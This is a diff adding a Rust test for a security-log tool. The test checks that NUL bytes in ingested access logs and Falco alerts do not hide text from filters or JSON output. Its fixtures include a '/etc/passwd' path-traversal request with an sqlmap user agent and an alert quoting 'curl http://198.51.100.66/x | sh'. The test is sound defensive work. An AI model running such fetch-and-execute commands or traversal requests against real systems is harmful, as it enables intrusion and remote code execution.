@@ -195,3 +195,51 @@ fn falco_output_is_imported_from_standard_input() {
     assert_ne!(code, 0);
     assert!(err.contains("--priority applies to alerts only"), "{err}");
 }
+
+#[test]
+fn a_nul_byte_in_a_log_line_hides_nothing_from_the_lists_json_or_filters() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("n.db");
+    let log = dir.path().join("access.log");
+    // Sixty lines, so that the import binds its first fifty in one statement and the rest one by one;
+    // the hidden payloads are in both parts.
+    let text: String = (0..60)
+        .map(|i| {
+            let (path, agent) =
+                if i % 50 == 3 { ("/c\0/../../etc/passwd", "Mozilla/5.0\0 sqlmap/1.7") } else { ("/ok", "curl") };
+            format!(
+                "203.0.113.{i} - - [26/Nov/2026:10:00:{i:02} +0000] \"GET {path} HTTP/1.1\" 200 1 \"-\" \"{agent}\"\n"
+            )
+        })
+        .collect();
+    std::fs::write(&log, text).unwrap();
+    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("60 lines, 60 stored, 0 not parsed"), "{err}");
+    let json = |filter: &str| -> Vec<serde_json::Value> {
+        let (code, out, err) = rampart(&db, &["access", "list", "--json", "--filter", filter, "--limit", "100"], None);
+        assert_eq!(code, 0, "{err}");
+        serde_json::from_str::<serde_json::Value>(&out).unwrap().as_array().unwrap().clone()
+    };
+    for filter in ["sqlmap", "path:*passwd*", "ua:*sqlmap*"] {
+        let rows = json(filter);
+        assert_eq!(rows.len(), 2, "{filter} finds what follows the NUL");
+        for row in &rows {
+            assert_eq!(row["path"], "/c\0/../../etc/passwd", "JSON carries the whole path");
+            assert_eq!(row["user_agent"], "Mozilla/5.0\0 sqlmap/1.7", "and the whole user agent");
+        }
+    }
+    assert_eq!(json("path:*/c").len(), 0, "the part before the NUL is not the value");
+    let (_, out, _) = rampart(&db, &["access", "list", "--filter", "sqlmap"], None);
+    assert_eq!(out.lines().count(), 2, "{out}");
+    assert!(out.contains("/c^@/../../etc/passwd  Mozilla/5.0^@ sqlmap/1.7"), "the NUL shown, the rest too:\n{out}");
+    // Falco output with an escaped NUL in it.
+    let alert = r#"{"output":"shell spawned\u0000; curl http://198.51.100.66/x | sh","priority":"Critical","rule":"Terminal shell in container","time":"2026-11-26T11:00:00Z","output_fields":{}}"#;
+    let (code, _, err) = rampart(&db, &["ingest", "falco", "-"], Some(alert));
+    assert_eq!(code, 0, "{err}");
+    let (_, out, _) = rampart(&db, &["alerts", "list", "--json", "--filter", "198.51.100.66"], None);
+    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(rows[0]["output"], "shell spawned\0; curl http://198.51.100.66/x | sh", "{out}");
+    let (_, out, _) = rampart(&db, &["alerts", "list"], None);
+    assert!(out.contains("shell spawned^@; curl http://198.51.100.66/x | sh"), "{out}");
+}
